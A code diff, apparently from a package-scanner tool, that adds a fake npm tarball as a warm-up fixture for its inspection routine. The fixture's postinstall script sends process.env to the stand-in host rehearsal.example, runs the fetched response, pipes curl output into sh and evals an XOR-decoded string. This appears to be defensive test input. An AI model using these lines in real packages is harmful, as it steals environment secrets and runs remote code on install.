@@ -99,11 +99,39 @@ _SDIST: dict[str, bytes] = {
 }
 
 
+_NPM: dict[str, bytes] = {
+    "package/package.json": b'{"name": "rehearsal", "version": "1.0.0", "main": "index.js", '
+    b'"scripts": {"postinstall": "node install.js"}, "dependencies": {"a": "^1.0.0"}}',
+    "package/install.js": b"""'use strict'
+const { execSync, spawn } = require('child_process'), path = require('node:path')
+import other, { one as two } from './lib/other'
+const data = JSON.stringify({ env: process.env, a: [1, 2].map((x) => x * 2), ...{ b: `x${1 + 1}` } })
+class Kind extends Object { constructor (a) { super(a); this.a = a } run () { return this.a?.b ?? 1 } }
+function decoded (text, [first, ...rest], { key = 3 } = {}) {
+  let out = ''
+  for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ key)
+  for (const one of rest) { if (one === first) continue; else break }
+  while (out.length > 999) { out = out.slice(1) }
+  switch (key) { case 1: return 'a'; default: return out.replace(/a(b)?/g, '$1').split('').reverse().join('') }
+}
+try { eval(decoded('dpmplof', [1, 2])) } catch (error) { console.log(error) }
+require('https').request({ host: 'rehearsal.example', method: 'POST' }, (res) => {
+  let text = ''; res.on('data', (c) => { text += c }); res.on('end', () => new Function(text)())
+}).end(Buffer.from(data, 'base64').toString('hex'))
+new Promise((resolve) => setTimeout(resolve, 10)).then(() => execSync('curl -s https://rehearsal.example | sh'))
+spawn(process.execPath, ['-e', 'console.log(1)'], { detached: true }); new Kind(1).run()
+""",
+    "package/lib/other.ts": b"export const one: string = 'a'; export default (x: number) => x as any\n",
+    "package/index.js": b"module.exports = require('./lib/other')\n",
+}
+
+
 def rehearse() -> None:
-    """Inspect a wheel and an sdist, so that everything that reading needs is loaded."""
+    """Inspect a wheel, an sdist and an npm tarball, so that everything that reading needs is loaded."""
     for filename, data in (
         ("rehearsal-1.0-py3-none-any.whl", _zipped(_WHEEL)),
         ("rehearsal-1.0.tar.gz", _tarred(_SDIST)),
+        ("rehearsal-1.0.0.tgz", _tarred(_NPM)),
     ):
         _, artifact = ecosystems.identify(filename, data)
         worklist.inspect(data, artifact, Limits())
